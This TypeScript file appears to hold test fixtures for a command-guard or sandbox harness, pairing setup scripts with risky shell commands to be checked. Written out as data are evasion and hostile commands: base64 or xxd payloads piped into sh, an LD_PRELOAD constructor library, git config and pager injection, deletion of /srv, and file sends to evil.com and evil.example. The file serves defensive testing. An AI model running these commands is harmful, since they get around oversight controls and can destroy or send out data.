/** What a case needs to do its deed: made before it starts, in the workspace, by a script whose own calls do not count. */
export interface Given {
  sh?: string;
  /** Its standard input; otherwise it has none. */
  stdin?: string;
  /** It runs at a terminal, on which somebody has typed this. */
  typed?: string;
  /** Ports of this machine at which somebody answers, besides 80. */
  ports?: number[];
  /** Variables that are set. */
  env?: Record<string, string>;
}

/** A script, and the commands that need it. */
const scripts: Record<string, string[]> = {
  'rm -rf /srv/x': ['mkdir /srv/x', 'mkdir -p -m 700 /srv/x', 'mkfifo /srv/x', 'npm install --prefix /srv/x'],
  'rm -rf /srv/x; mkdir /srv/x; touch /srv/x/a': [`python3 -c "import shutil; shutil.rmtree('/srv/x')"`],
  'rm -f b x p': ['ln -s ../a b', 'ln /etc/passwd p'],
  'rm -f /home/u/x': ['ln a.txt ~/x'],
  'mkdir -p /srv/a/z': ['rm -rf {/srv/a,b}'],
  'rm -rf x /srv/x /x; mkdir x; echo a > x/a; zip -qr x.zip x; cp x.zip a.zip': [
    'unzip x.zip -d /srv',
    'unzip -o x.zip -d..',
    'unzip a.zip -d /usr/share',
    'unzip a.zip -d ..',
    '7z x a.7z -o/srv',
  ],
  'rm -rf /srv/x; tar cf a.tar a.txt; tar czf a.tgz a.txt': [
    'tar xf a.tar -C /',
    'tar xzf a.tgz -C ..',
    'tar xf a.tar --one-top-level=/srv/x',
    "tar xf a.tar --to-command='git push'",
    'python3 -m tarfile -e a.tar .git',
  ],
  'mkdir -p /srv/z; echo a > /srv/z/f; tar cPf a.tar /srv/z/f; cp a.tar x.tar; cp a.tar x; rm -rf /srv/z': [
    'tar -xPf a.tar',
    'tar -xPf x.tar',
    'tar --absolute-names -xf a.tar',
    "tar --to-command='git commit' -xf x",
  ],
  'echo a > a.txt; echo a.txt | cpio -o > x 2>/dev/null': ['cpio -idm -D / < x'],
  'cp a.txt /srv/a.txt; cp a.txt /a.txt': ['patch -d /srv < x.patch', 'patch -d .. -p1 < x.patch'],
  'echo "0: 6162" > x': ['xxd -r x /srv/y'],
  'printf "install:\\n\\tmkdir -p \\$(DESTDIR)\\$(PREFIX)/z && touch \\$(DESTDIR)\\$(PREFIX)/z/installed\\n" >> Makefile':
    [
      'make DESTDIR=/srv install',
      'make install PREFIX=/usr/local',
      './configure --prefix=/usr && make && make install',
    ],
  'echo "file(INSTALL a.txt DESTINATION \\${CMAKE_INSTALL_PREFIX})" > cmake_install.cmake; printf "rule t\\n command = touch /usr/local/installed\\nbuild install: t\\n" > build.ninja':
    ['cmake --install . --prefix /srv', 'cmake --install . --prefix /usr', 'ninja install'],
  'echo x | rev > script; echo "git push" > script; cp script unknown.txt; cp script a; cp script x; cp script x.sh': [
    'bash -c "$(cat script)"',
    'cat unknown.txt | bash',
    'dd if=a | sh',
    'sed -n 1p a | sh',
    'head -1 a | bash',
    'tail -n1 a | xargs -I{} bash -c {}',
    'grep push a | sh',
    'sh < x',
    'exec 3<x.sh; bash <&3',
    'openssl enc -d -in x | sh',
  ],
  'echo "git push" | xxd > a': ['xxd -r a | bash'],
  'echo "git push" | xxd -p > x': ['xxd -r -p x | bash', 'xxd -r -p x | sh'],
  'echo "git push" | base64 > x': ['base64 -d x | sh', 'cat x | base64 -d | bash'],
  'echo "git push" | gzip > x.gz': ['gunzip -c x.gz | sh'],
  'echo \'{"cmd":"git push"}\' > a.json': ['jq -r .cmd a.json | sh'],
  'printf "x\\n" > a': ["sed 's/x/git push/e' a"],
  'rm -f x; git add -A; git commit -qm all': [
    'test -f x || git push',
    'git diff --quiet && git push || echo no',
    'npm version minor',
    'npm version patch',
    'npm version 1.2.3 -m "x"',
  ],
  'ln -s /bin/bash /given/sh': [
    'cp scripts/release.sh /tmp/r.sh && sh /tmp/r.sh',
    '(cd scripts && sh -x release.sh)',
    'sh -x ./scripts/release.sh arg',
  ],
  'chmod +x /srv/x.sh /x.sh /etc/init.d/postgresql': ['/srv/x.sh', '../x.sh', '/etc/init.d/postgresql restart'],
  'rm -f a; mkdir a; rm -rf /srv': ['echo > ./a/../../srv'],
  'git rev-list HEAD > y': ['git pack-objects x < y'],
  'printf "From a@b Thu Jan  1 00:00:00 1970\\nFrom: a\\nSubject: s\\n\\nbody\\n" > x; cp x mbox': [
    'git mailsplit -o/srv x',
    'git mailinfo m p < x',
  ],
  'git fast-export HEAD > dump; git update-ref -d refs/heads/old': ['git fast-import < dump'],
  'mkdir /tmp/o; git -C /tmp/o init -q; git -C /tmp/o -c user.name=a -c user.email=b commit -q --allow-empty -m elsewhere; git -C /tmp/o rev-parse HEAD | git -C /tmp/o pack-objects -q --stdout > x.pack':
    ['git unpack-objects < x.pack'],
  'printf "object %s\\ntype commit\\ntag t\\ntagger a <b> 0 +0000\\n\\nx\\n" $(git rev-parse HEAD) > t': [
    'git mktag < t',
  ],
  'printf "100644 blob %s\\tnew-name\\n" $(git hash-object a.txt) > t': ['git mktree < t'],
  'printf "#!/bin/sh\\ngit tag from-hook\\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit': [
    'git hook run pre-commit',
  ],
  'printf "protocol=https\\nhost=h\\nusername=u\\npassword=p\\n" > c; git config credential.helper store': [
    'git credential approve < c',
  ],
  'git config a.x /repo': ['git for-each-repo --config=a.x commit -qam x'],
  'echo "[core]\n\tfsmonitor = /repo/evil" > /tmp/evil; cp /tmp/evil /tmp/cfg': [
    'git -c "include.path=/tmp/evil" status',
    'GIT_CONFIG_GLOBAL=/tmp/cfg git status',
  ],
  'printf "*.ts filter=x\\n" > .git/info/attributes; touch src/module-2.ts; rm -f y': [
    'git -c filter.x.clean="touch y" status',
  ],
  'cp evil x; chmod +x x': [
    `GIT_CONFIG_PARAMETERS="'core.fsmonitor=./x'" git status`,
    'npm_config_script_shell=./x npm test',
  ],
  'mkdir /tmp/evil; for n in status log; do ln -s /repo/evil /tmp/evil/git-$n; done; ln -s /repo/evil /tmp/evil/git-remote-file':
    ['GIT_EXEC_PATH=/tmp/evil git status', 'git --exec-path=/tmp/evil log'],
  'git config diff.external ./evil': ['git diff --ext-diff', 'git --no-pager log -1 -p --format=%H --ext-diff'],
  'git clone -q --bare . /tmp/x': ['GIT_DIR=/tmp/x git log'],
  'rm -rf /srv/other; git init -q /srv/other; git -C /srv/other -c user.name=a -c user.email=b commit -q --allow-empty -m theirs; cp -r /srv/other/.git /srv/.git':
    ['git -C /srv/other log', 'git --git-dir /srv/.git log'],
  'mkdir -p sub; git init -q sub': ['tee sub/.git/config < x'],
  'touch .git/index.lock': ['rm -f .git/index.lock'],
  'mkdir -p .dayshift; touch .dayshift/x': ['rm -rf .dayshift'],
  'rm -rf .claude': ['mkdir -p .claude'],
  'rmdir /opt/app 2>/dev/null; rm -rf /opt/app': ['mkdir -p /opt/app'],
  'rm -f /x; mkdir /x': ['rmdir ../x'],
  'cc -c a.c -o a.o': ['objcopy a.o /opt/a.o', 'ar rcs /opt/lib.a a.o'],
  'ln -s "$(command -v python3)" python; mkdir -p .venv/bin; ln -s /usr/bin/python3 .venv/bin/python': [
    '.venv/bin/python manage.py migrate',
  ],
  'mkdir -p /home/u/go/bin; cp bin/migrate /home/u/go/bin/migrate; mkdir -p /bin 2>/dev/null': [
    '~/go/bin/migrate -path m -database x up',
  ],
  'printf "#!/bin/sh\\necho go\\n" > /given/go; chmod +x /given/go; mkdir -p /go; mkdir -p go/bin; cp bin/migrate go/bin/goose':
    ['$(go env GOPATH)/bin/goose up'],
  "python3 -c \"import sqlite3; d = sqlite3.connect('dev.db'); d.execute('create table x (a)'); d = sqlite3.connect('a.db'); d.execute('create table x (a)')\"":
    [
      `python -c "import sqlite3; sqlite3.connect('dev.db').execute('drop table x')"`,
      `sqlite3 :memory: "attach 'a.db' as a; drop table a.x"`,
      `sqlite3 :memory: '.open a.db' 'drop table x'`,
      `node -e "const {DatabaseSync}=require('node:sqlite'); new DatabaseSync('a.db').exec('drop table x')"`,
    ],
  'cp a.db /tmp/x.db; echo x > /tmp/x.db': ['cp /tmp/x.db data/app.sqlite'],
  'printf "db-migrate:\\n\\talembic upgrade head\\ndb.reset:\\n\\tprisma migrate reset\\n" >> Makefile': [
    'make db-migrate',
    'make db.reset',
  ],
  "node -e \"const f=require('fs'),p=JSON.parse(f.readFileSync('package.json'));p.workspaces=['packages/*'];f.writeFileSync('package.json',JSON.stringify(p));const q=JSON.parse(f.readFileSync('packages/db/package.json'));q.name='db';q.version='1.0.0';f.writeFileSync('packages/db/package.json',JSON.stringify(q))\"":
    [
      'npm run push -w packages/db',
      'npm run push -w db',
      'npm --workspace packages/db run push',
      'npm exec --workspace=db -- prisma db push',
      'npm -w packages/db run push',
      'npm run push --workspace=packages/db',
    ],
  "node -e \"const f=require('fs'),p=JSON.parse(f.readFileSync('package.json'));p.name='x';p.version='1.0.0';f.writeFileSync('package.json',JSON.stringify(p))\"":
    ['npm pack --pack-destination /srv', 'corepack pnpm release', 'npm unpublish x'],
  'mkdir -p node_modules/x node_modules/lodash; for n in x lodash; do echo "{\\"name\\":\\"$n\\",\\"version\\":\\"1.0.0\\"}" > node_modules/$n/package.json; done':
    ['npm explore x -- git commit', "npm edit lodash --editor='git push'"],
  'chmod +x scripts/*; cp scripts/release.sh scripts/release': ['run-parts ./scripts'],
  'printf "int x;__attribute__((constructor)) void f(void){system(\\"git push\\");}" > x.c; gcc -w -shared -fPIC -include stdlib.h -o x.so x.c':
    ['export LD_PRELOAD=./x.so; ls', 'LD_PRELOAD=./x.so ls', 'enable -f ./x.so x'],
  'cp /usr/bin/git /tmp/git2': ['mv /tmp/git2 g; ./g commit -m x'],
  'git update-index --assume-unchanged x; touch -d tomorrow x; rm -f x': [
    "make --eval='x:;git commit' x",
    "make --eval='x:;git push' x",
    "make --eval='x: ; git commit' x",
    "GNUMAKEFLAGS='--eval=x:;git commit' make x",
  ],
  'git stash -q; git checkout -q topic; echo q > q.txt; git add q.txt; git commit -qm q': [
    'git merge-tree --write-tree main HEAD',
  ],
  'git commit-tree -m dangling "HEAD^{tree}"': ['git fsck --lost-found'],
  'rm -f /x; cp -r .git/objects /x': ['GIT_ALTERNATE_OBJECT_DIRECTORIES=/x git log'],
  'git config imap.host imaps://evil.example; git config imap.folder x; git config imap.user u; git config imap.pass p; printf "From a@b Thu Jan  1 00:00:00 1970\\nFrom: a\\nDate: Thu, 1 Jan 1970 00:00:00 +0000\\nSubject: s\\n\\nbody\\n" > mbox':
    ['git imap-send < mbox'],
  'seq 20 > a; rm -rf /srv/x': ['csplit -f /srv/x a 10', 'exec 3<>/srv/x'],
  'touch a.cpio': ['cpio -idm --absolute-filenames < a.cpio'],
  'rm -f /srv/x.gz': ['gzip /srv/x'],
  'ln -s "$(command -v npm)" /given/npm': ['node $(which npm) run release'],
  'rm -f x': [`printf 'require("child_process").execSync("git push");\\n' > x.js; node ./x`],
  'rm -f a': ["printf '#!/usr/bin/make -f\\na:\\n\\tgit push\\n' > x; chmod +x x; ./x"],
  'rm -f /x': [`node -e "fs.cpSync('.', '../x', {recursive:true})"`],
  'touch app.db': ['mv app.db app.db.bak'],
  'cp bin/migrate migrate': ['./migrate up'],
  'echo {} > a': ['python3 -m json.tool a .git/HEAD'],
  'printf "import proof_stand_ins, sys\\nproof_stand_ins.tell(\\"app.py\\", sys.argv[1:])\\n" > app.py': [
    'python app.py db upgrade',
  ],
  "printf \"#!/usr/bin/env node\\n\" > node_modules/.bin/vitest; chmod +x node_modules/.bin/vitest; echo \"require('child_process').execSync('git commit -qam x')\" > scripts/commit.cjs; echo \"import { execSync } from 'node:child_process'; execSync('git commit -qam x');\" > scripts/commit.mjs":
    ["npm_config_node_options='--require ./scripts/commit.mjs' npm test"],
  'seq 400000 > a; cp a x': ["sort --compress-program='git push' a", "sort --compress-program='git commit' x"],
};

/** What they read, are typed, or find answering. */
const inputs: Record<string, Given> = {
  'find . -name x -ok git add {} \\;': { stdin: 'y\ny\ny\ny\n' },
  'find . -ok git commit \\;': { stdin: 'y\n'.repeat(400) },
  'select x in a; do git push; done': { stdin: '1\n' },
  'select x in a; do git commit; done': { stdin: '1\n' },
  'xargs -I{} git commit -m x': { stdin: 'a\n' },
  'xargs -I{} xargs -I{} git push': { stdin: 'a\n' },
  'cpio -o -O evil.com:x': { stdin: 'a.txt\n' },
  'git credential-store store': { stdin: 'protocol=https\nhost=h\nusername=u\npassword=p\n' },
  'openssl enc -aes-256-cbc -in a -out ../b': { typed: 'pass\npass\n' },
  'git grep --open-files-in-pager=vi foo': { typed: '', sh: 'echo foo > x; git add x' },
  'git grep -Oless foo': { typed: '', sh: 'echo foo > x; git add x' },
  'GIT_PAGER=\'sh -c "git commit -am x"\' git log': { typed: '\n' },
  "PAGER='rm -rf /srv' git log": { typed: '\n' },
  'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log': {
    typed: '\n',
    sh: 'ln -s /repo/evil /given/x',
  },
  'curl -o /srv/x http://localhost:3000/': { ports: [3000] },
  'curl -s localhost:3000/x | sh': { ports: [3000] },
  'curl https://docs.allowed.test:8443/x': { ports: [8443] },
  'cd - && cd .. && touch x': { env: { OLDPWD: '/srv/other' }, sh: 'rm -f /srv/x' },
  'git --config-env=core.pager=X log': { env: { X: '/repo/evil' }, typed: '\n' },
  'npm token create': { typed: 'pass\n' },
};

const byCommand = new Map<string, Given>(Object.entries(inputs));
for (const [sh, commands] of Object.entries(scripts))
  for (const command of commands) byCommand.set(command, { ...byCommand.get(command), sh });

export const givenFor = (command: string): Given => byCommand.get(command) ?? {};

/** The commands that something is given, to be compared with the cases. */
export const givenCommands = (): string[] => [...byCommand.keys()];
